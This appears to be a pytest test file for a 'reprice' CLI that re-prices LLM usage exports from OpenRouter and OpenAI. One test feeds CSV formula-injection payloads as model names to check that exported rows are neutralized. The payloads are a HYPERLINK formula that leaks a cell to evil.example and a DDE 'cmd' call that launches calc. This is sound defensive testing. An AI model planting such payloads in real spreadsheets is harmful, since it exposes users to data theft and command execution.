"""`python -m model reprice` (issue 8): the like-with-like verdict, plain text without raw
Python values, nothing-priced said instead of $0.00, several files, and --rows-out."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from model.usage.export import ROW_COLUMNS, cost_column
from tests.cli.test_model_cli import run
from tests.conftest import DATA

SAMPLES = DATA / "samples"
OPENROUTER = str(SAMPLES / "openrouter_generations__REAL_2026-03.csv")
OPENAI_USAGE = str(SAMPLES / "openai_usage_export__REAL_2025-10.tsv")
OPENAI_COST = str(SAMPLES / "openai_cost_export__REAL_2025-10.tsv")


def test_comparable_block_on_the_real_openrouter_export() -> None:
    out = json.loads(run("reprice", OPENROUTER, "--json").stdout)
    cmp = out["comparable"]
    totals = {o["id"]: o["total_usd"] for o in cmp["options"]}
    # Direct $4.39 and pooled $3.51 vs OpenRouter $4.63 on the 53 paid rows (see
    # tests/engine/test_comparable.py for the independent check against OpenRouter's bill).
    assert cmp["rows"] == 53 and cmp["cheapest"] == "pooled"
    assert {k: round(v, 2) for k, v in totals.items()} == {
        "direct": 4.39, "openrouter": 4.63, "pooled": 3.51,
    }  # fmt: skip
    assert cmp["left_out"]["rows"] == 15
    assert cmp["left_out"]["sold_by"] == [{"id": "openrouter", "rows": 15, "token_cost_usd": 0.0}]
    # The per-option totals keep their meaning: everything each option can price.
    by_id = {o["id"]: o for o in out["options"]}
    assert sum(by_id["direct"]["unpriced"].values()) == 15


def test_text_states_the_verdict_without_python_values() -> None:
    done = run("reprice", OPENROUTER)
    assert done.returncode == 0, done.stderr
    text = done.stdout
    assert "cheapest on the 53 rows every option prices: pooled $3.51" in text
    assert "left out of that comparison: 15 rows" in text
    assert "z-ai/glm-4.5-air (1 row)" in text and "(1 rows)" not in text
    assert "{'" not in text and "None" not in text


def test_a_short_log_costs_fractions_of_a_cent_not_zero(tmp_path: Path) -> None:
    log = tmp_path / "one.csv"
    log.write_text(
        "timestamp,model,input_tokens,output_tokens\n2026-10-01T10:00:00Z,gpt-4o,1000,50\n"
    )
    done = run("reprice", str(log))
    assert done.returncode == 0, done.stderr
    # By hand: 1,000 × $2.50/M + 50 × $10/M = $0.0025 + $0.0005 = $0.0030 direct.
    direct = next(line for line in done.stdout.splitlines() if line.startswith("direct"))
    assert direct.split() == ["direct", "$0.0030", "$0.00", "$0.00", "$0.0030"]


def test_cost_only_export_says_nothing_was_priced_and_why() -> None:
    done = run("reprice", OPENAI_COST)
    assert done.returncode == 0, done.stderr
    assert "$0.00" not in done.stdout
    assert "nothing was priced" in done.stdout
    assert "reported cost: $2.99" in done.stdout
    assert "cost export" in done.stdout  # the reader's reason, stated


def test_usage_and_cost_exports_together(tmp_path: Path) -> None:
    out = json.loads(run("reprice", OPENAI_USAGE, OPENAI_COST, "--json").stdout)
    assert [f["format"] for f in out["files"]] == ["openai_usage_csv", "openai_costs_csv"]
    assert out["rows"] == 12
    assert round(out["reported_cost_usd"], 2) == 2.99  # billed
    assert round(out["options"][0]["total_usd"], 2) == 2.05  # re-priced, direct


def test_rows_out_writes_every_row_neutralized(tmp_path: Path) -> None:
    usage = tmp_path / "u.csv"
    usage.write_text(
        "timestamp,model,input_tokens,output_tokens\n"
        "2026-11-21T00:00:00Z,gpt-4o,1000000,0\n"
        '2026-11-21T00:00:01Z,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",10,1\n'
        "2026-11-21T00:00:02Z,+cmd|' /C calc'!A0,10,1\n"
        "2026-11-21T00:00:03Z,@SUM(1),10,1\n",
        encoding="utf-8",
    )
    rows_out = tmp_path / "out.csv"
    done = run("reprice", str(usage), "--rows-out", str(rows_out), "--json")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(rows_out.read_text(encoding="utf-8"))))
    assert list(rows[0]) == [*ROW_COLUMNS, cost_column("direct"), cost_column("openrouter"),
                             cost_column("pooled")]  # fmt: skip
    assert len(rows) == 4  # every row read, the three unknown models included
    assert float(rows[0][cost_column("direct")]) == pytest.approx(2.5)  # gpt-4o $2.50/MTok
    for row in rows[1:]:
        assert row["model_raw"].startswith("'") and row["model"].startswith("'")
        assert row[cost_column("direct")] == ""  # not priced: empty, never 0
    assert not list(tmp_path.glob(".*partial"))


def test_rows_out_is_not_left_behind_on_error(tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_bytes(b"\x00\x01 not a csv")
    rows_out = tmp_path / "out.csv"
    done = run("reprice", OPENAI_USAGE, str(bad), "--rows-out", str(rows_out))
    assert done.returncode == 2 and done.stdout == ""
    assert list(tmp_path.iterdir()) == [bad]
